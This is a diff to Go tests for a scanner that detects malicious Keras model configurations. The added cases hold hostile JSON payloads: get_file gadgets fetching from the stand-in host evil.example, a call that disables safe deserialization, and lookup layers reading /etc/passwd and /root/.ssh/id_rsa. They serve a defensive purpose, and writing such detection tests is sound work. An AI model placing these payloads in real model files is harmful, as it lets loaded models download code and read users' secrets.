@@ -175,6 +175,32 @@ func TestKerasConfigMalicious(t *testing.T) {
 			"KERAS005", SeverityCritical, "turns safe mode off"},
 		{"TorchModuleWrapper", `{"module": "keras", "class_name": "Sequential", "config": {"layers": [{"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {"name": "tw"}}]}}`,
 			"KERAS006", SeverityHigh, "CVE"},
+		// Class-form gadgets: the keras module is allowlisted, the name is not.
+		{"class-form get_file layer", `{"module": "keras", "class_name": "Sequential", "config": {"layers": [{"module": "keras.utils", "class_name": "get_file", "config": {"origin": "http://evil.example/x", "fname": "/tmp/x"}}]}}`,
+			"KERAS004", SeverityCritical, `class-form reference "keras.utils.get_file"`},
+		{"class-form keras.src spelling", `{"module": "keras", "class_name": "Sequential", "config": {"layers": [{"module": "keras.src.utils.file_utils", "class_name": "get_file", "config": {}}]}}`,
+			"KERAS004", SeverityCritical, `"keras.src.utils.file_utils.get_file"`},
+		{"class-form tf.keras spelling", `{"class_name": "Sequential", "config": {"layers": [{"module": "tensorflow.keras.utils", "class_name": "get_file", "config": {}}]}}`,
+			"KERAS004", SeverityCritical, `"tensorflow.keras.utils.get_file"`},
+		{"registered_name gadget", `{"module": "keras", "class_name": "Sequential", "config": {"layers": [{"module": "keras.layers", "class_name": "Dense", "registered_name": "keras.utils>get_file", "config": {"name": "d"}}]}}`,
+			"KERAS004", SeverityCritical, "get_file"},
+		{"class-form unsafe switch", `{"module": "keras", "class_name": "Sequential", "config": {"layers": [{"module": "keras.config", "class_name": "enable_unsafe_deserialization", "config": {}}]}}`,
+			"KERAS005", SeverityCritical, `"keras.config.enable_unsafe_deserialization" resolves a function that turns safe mode off`},
+		{"gadget as kernel_initializer", `{"module": "keras", "class_name": "Sequential", "config": {"layers": [{"module": "keras.layers", "class_name": "Dense", "config": {"name": "d", "units": 2, "kernel_initializer": {"module": "keras.utils", "class_name": "get_file", "config": {"origin": "http://evil.example"}}}}]}}`,
+			"KERAS004", SeverityCritical, `layer "d"`},
+		{"gadget as activation", `{"module": "keras", "class_name": "Sequential", "config": {"layers": [{"module": "keras.layers", "class_name": "Dense", "config": {"name": "d", "activation": {"module": "keras.src.utils", "class_name": "get_file", "registered_name": null, "config": {}}}}]}}`,
+			"KERAS004", SeverityCritical, "$.config.layers[0].config.activation"},
+		{"unknown class in an allowed module", `{"module": "keras", "class_name": "Sequential", "config": {"layers": [{"module": "keras.layers", "class_name": "Mystery", "config": {"name": "m"}}]}}`,
+			"KERAS003", SeverityMedium, `"keras.layers.Mystery" is in an allowed module but is not a Keras built-in class`},
+		// Lookup layers reading files at load (CVE-2025-12058 shape).
+		{"StringLookup path", `{"module": "keras", "class_name": "Sequential", "config": {"layers": [{"module": "keras.layers", "class_name": "StringLookup", "config": {"name": "lk", "vocabulary": "/etc/passwd"}}]}}`,
+			"KERAS007", SeverityHigh, `StringLookup reads its vocabulary from "/etc/passwd"`},
+		{"IntegerLookup URL", `{"class_name": "Sequential", "config": {"layers": [{"class_name": "IntegerLookup", "config": {"name": "ik", "vocabulary": "gs://bucket/vocab.txt"}}]}}`,
+			"KERAS007", SeverityHigh, "gs://bucket/vocab.txt"},
+		{"TextVectorization idf file", `{"module": "keras", "class_name": "Sequential", "config": {"layers": [{"module": "keras.layers", "class_name": "TextVectorization", "config": {"name": "tv", "vocabulary": ["a", "b"], "idf_weights": "http://evil.example/idf"}}]}}`,
+			"KERAS007", SeverityHigh, "idf_weights"},
+		{"KerasNLP tokenizer vocabulary file", `{"module": "keras", "class_name": "Functional", "config": {"layers": [{"module": "keras_nlp.src.tokenizers.word_piece_tokenizer", "class_name": "WordPieceTokenizer", "config": {"name": "tok", "vocabulary": "/root/.ssh/id_rsa"}}]}}`,
+			"KERAS007", SeverityHigh, "/root/.ssh/id_rsa"},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			var hit *Finding
@@ -212,9 +238,6 @@ func TestKerasZipEndToEnd(t *testing.T) {
 	if bad := kerasAtLeast(rep, SeverityMedium); len(bad) > 0 {
 		t.Errorf("benign .keras: %+v", bad)
 	}
-	if handlers[FormatJSON] == nil {
-		t.Skip("no JSON handler registered yet: config.json is not analysed end to end")
-	}
 	evil := `{"module": "keras", "class_name": "Sequential", "config": {"layers": [{"module": "keras.layers", "class_name": "Lambda", "config": {"name": "dl", "function": {"module": "keras.utils", "class_name": "function", "config": "get_file"}}}]}}`
 	var buf bytes.Buffer
 	zw := zip.NewWriter(&buf)
@@ -234,5 +257,13 @@ func TestKerasZipEndToEnd(t *testing.T) {
 	ids := kerasRuleIDs(rep.Findings)
 	if ids["KERAS004"] != 1 || ids["KERAS001"] != 1 {
 		t.Errorf("evil .keras: %+v", rep.Findings)
+	}
+}
+
+// TestKerasInlineVocabulary: vocabularies stored in the config are not files.
+func TestKerasInlineVocabulary(t *testing.T) {
+	doc := `{"module": "keras", "class_name": "Sequential", "config": {"layers": [{"module": "keras.layers", "class_name": "StringLookup", "config": {"name": "lk", "vocabulary": ["cat", "dog"], "idf_weights": null}}, {"module": "keras.layers", "class_name": "TextVectorization", "config": {"name": "tv", "vocabulary": null}}]}}`
+	if fs := runKerasConfig(t, doc); len(fs) != 0 {
+		t.Errorf("inline vocabulary reported: %+v", fs)
 	}
 }
